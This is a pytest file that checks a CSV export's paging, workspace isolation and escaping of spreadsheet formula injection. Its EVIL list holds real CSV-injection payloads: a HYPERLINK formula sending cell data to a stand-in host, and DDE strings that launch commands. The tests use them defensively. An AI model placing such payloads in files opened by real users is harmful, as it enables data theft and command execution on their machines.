"""CSV exports: every row once across pages, formula injection neutralized, isolated."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from shared.errors import ValidationError
from shared.metrics import csv_export
from shared.runtime import Runtime

EVIL = [
    '=HYPERLINK("http://evil.test?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def parse(chunks: list[str]) -> list[list[str]]:
    text = "".join(chunks)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_contacts_export_is_paged_complete_and_neutralized(runtime: Runtime) -> None:
    db = runtime.db
    for i in range(11):
        db.collection("contacts").document(f"ws1__{i:02d}").set(
            {
                "workspace_id": "ws1",
                "email": f"p{i}@acme.test",
                "email_norm": f"p{i:02d}@acme.test",
                "first_name": EVIL[i % len(EVIL)],
                "last_name": "Ødegård",
                "fields": {"note": "=2*3"},
                "created_at": datetime(2026, 1, 1, tzinfo=UTC),
            }
        )
    db.collection("contacts").document("ws2__x").set(
        {"workspace_id": "ws2", "email": "other@ws2.test", "email_norm": "other@ws2.test"}
    )
    chunks = list(csv_export.export_csv(runtime, "ws1", "contacts", page_size=4))
    assert len(chunks) > 1  # streamed, not built whole
    rows = parse(chunks)
    header, body = rows[0], rows[1:]
    assert header[:3] == ["id", "email", "first_name"]
    assert sorted(r[1] for r in body) == sorted(f"p{i}@acme.test" for i in range(11))
    names = [r[2] for r in body]
    # Every dangerous cell starts with a quote; nothing else was touched.
    assert all(n.startswith("'") and n[1:] in EVIL for n in names)
    assert {r[3] for r in body} == {"Ødegård"}
    assert {r[5] for r in body} == {'{"note": "=2*3"}'}  # JSON starts with {: harmless
    assert all("other@ws2.test" not in r for r in body)


def test_recipients_are_one_row_each_with_their_outcome(runtime: Runtime) -> None:
    db = runtime.db
    for b in range(3):
        db.collection("email_batches").document(f"c1__{b:06d}").set(
            {
                "workspace_id": "ws1",
                "campaign_id": "c1",
                "key": f"c1__{b:06d}",
                "recipients": [{"id": f"r{b}{i}", "email": f"=r{b}{i}@x.test"} for i in range(2)],
                "outcomes": {
                    "0": {"status": "sent", "code": 250, "at": datetime(2026, 1, 5, tzinfo=UTC)}
                },
            }
        )
    rows = list(csv_export.export_rows(runtime, "ws1", "email_recipients", page_size=2))
    assert len(rows) == 1 + 6
    by_id = {r[2]: r for r in rows[1:]}
    assert by_id["r00"][4:6] == ["sent", 250] and by_id["r01"][4] == "pending"
    assert by_id["r00"][3] == "'=r00@x.test"


def test_event_export_pages_through_equal_instants(runtime: Runtime) -> None:
    same = datetime(2026, 1, 5, 9, tzinfo=UTC)
    batch = runtime.db.batch()
    for i in range(9):
        batch.set(
            runtime.db.collection("email_events").document(f"e{i}"),
            {"workspace_id": "ws1", "type": "open", "at": same, "url": "@evil" if i == 0 else None},
        )
    batch.commit()
    rows = list(csv_export.export_rows(runtime, "ws1", "email_events", page_size=2))
    assert sorted(r[0] for r in rows[1:]) == [f"e{i}" for i in range(9)]
    assert next(r for r in rows[1:] if r[0] == "e0")[5] == "'@evil"


def test_every_table_exports_and_unknown_ones_are_refused(runtime: Runtime) -> None:
    for name in csv_export.TABLES:
        rows = list(csv_export.export_rows(runtime, "empty", name))
        assert rows == [list(csv_export.TABLES[name].columns)]  # the header only
    with pytest.raises(ValidationError, match="unknown table"):
        list(csv_export.export_rows(runtime, "ws1", "passwords"))
    assert (
        csv_export.filename("posts", datetime(2026, 1, 5).date()) == "herald-posts-2026-01-05.csv"
    )
